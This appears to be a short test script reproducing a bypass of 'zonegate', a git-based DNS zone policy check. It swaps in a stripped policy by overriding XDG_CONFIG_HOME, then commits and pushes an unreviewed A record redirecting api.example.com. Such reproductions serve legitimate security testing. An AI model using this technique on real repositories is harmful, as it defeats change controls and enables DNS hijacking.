evil=$PWD/../evil
mkdir -p "$evil/git"
sed '/^targets:/,/^severity:/{/^severity:/!d}' zonegate.yaml >"$evil/policy.yaml"
git config --file "$evil/git/config" zonegate.policy "$evil/policy.yaml"
echo 'api 60 A 203.0.113.77' >>zones/external/example.com.zone
git commit -q -a -m bad
XDG_CONFIG_HOME=$evil git push origin HEAD:main
